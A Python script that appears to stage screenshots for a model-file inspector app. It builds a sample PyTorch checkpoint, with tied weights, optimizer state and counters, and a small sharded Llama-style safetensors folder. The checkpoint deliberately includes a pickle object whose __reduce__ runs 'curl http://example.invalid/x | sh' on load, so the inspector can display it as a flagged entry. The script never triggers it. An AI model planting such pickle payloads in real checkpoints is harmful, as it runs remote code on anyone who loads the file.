"""The Files area's pictures for the screenshot tour: a practitioner's checkpoint (a state dict with
tied weights, optimizer state, `args`, NumPy values, Lightning-style counters, a model saved whole
and a hostile call that is listed, never made) and a transformers folder with a sharded index."""

from __future__ import annotations

import argparse
import json
import os
import tempfile
from pathlib import Path


class _Hostile:
    """What a booby-trapped checkpoint carries: a shell command run by a plain torch.load."""

    def __reduce__(self):
        return (os.system, ("curl http://example.invalid/x | sh",))


def _checkpoint(path: Path) -> None:
    import numpy as np
    import torch

    torch.manual_seed(0)
    model = torch.nn.Sequential(
        torch.nn.Embedding(100, 16), torch.nn.LayerNorm(16), torch.nn.Linear(16, 100)
    )
    model[2].weight = model[0].weight  # tied input and output embeddings
    loops = {"fit_loop": {"epoch_progress": {p: {"ready": 12, "started": 12, "processed": 12,
             "completed": 12} for p in ("total", "current")}}}  # fmt: skip
    torch.save({
        "model": model.state_dict(),
        "optimizer": {"lr": 0.001, "betas": (0.9, 0.999), "step": 1200},
        "args": argparse.Namespace(lr=1e-3, batch_size=64, data="/data/wikitext"),
        "best_acc": np.float64(0.8731), "epoch": 12, "loops": loops,
        "ema": torch.nn.Sequential(torch.nn.Linear(16, 4), torch.nn.ReLU()),
        "callback": _Hostile(),
    }, path)  # fmt: skip


def _folder(folder: Path) -> None:
    import safetensors.torch
    import torch

    folder.mkdir()
    (folder / "config.json").write_text(
        json.dumps(
            {"model_type": "llama", "hidden_size": 64, "num_hidden_layers": 2, "vocab_size": 320}
        )
    )
    (folder / "generation_config.json").write_text(json.dumps({"max_new_tokens": 64}))
    weight_map = {}
    for shard, layers in ((1, [0]), (2, [1])):
        name = f"model-0000{shard}-of-00002.safetensors"
        part = {}
        for layer in layers:
            for proj, shape in (("q_proj", (64, 64)), ("k_proj", (16, 64)), ("o_proj", (64, 64))):
                part[f"model.layers.{layer}.self_attn.{proj}.weight"] = torch.randn(
                    shape
                ).bfloat16()
        if shard == 1:
            part["model.embed_tokens.weight"] = torch.randn(320, 64).bfloat16()
        safetensors.torch.save_file(part, str(folder / name), metadata={"format": "pt"})
        weight_map |= dict.fromkeys(part, name)
    index = {"metadata": {"total_size": 0}, "weight_map": weight_map}
    (folder / "model.safetensors.index.json").write_text(json.dumps(index))  # fmt: skip


def stage_files(window, app, out_dir: Path, wait_for) -> list[Path]:
    panel = window.panel("files")
    shots = [out_dir / "files.png", out_dir / "files_folder.png"]
    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp) / "checkpoint.pt"
        _checkpoint(path)
        window.open_paths([str(path)])
        wait_for(lambda: not panel.is_busy() and panel.model.inspection is not None)
        panel.tree.collapse(panel.model.index(0, 0, panel.model.index(0, 0)))  # the state dict
        panel.select_entry("['callback']")
        for _round in range(3):  # the notice's height settles, then the layout around it
            app.processEvents()
        window.grab().save(str(shots[0]))
        folder = Path(tmp) / "llama-tiny"
        _folder(folder)
        window.open_paths([str(folder)])
        wait_for(lambda: not panel.is_busy() and panel.current_path == str(folder))
        app.processEvents()
        window.grab().save(str(shots[1]))
    return shots
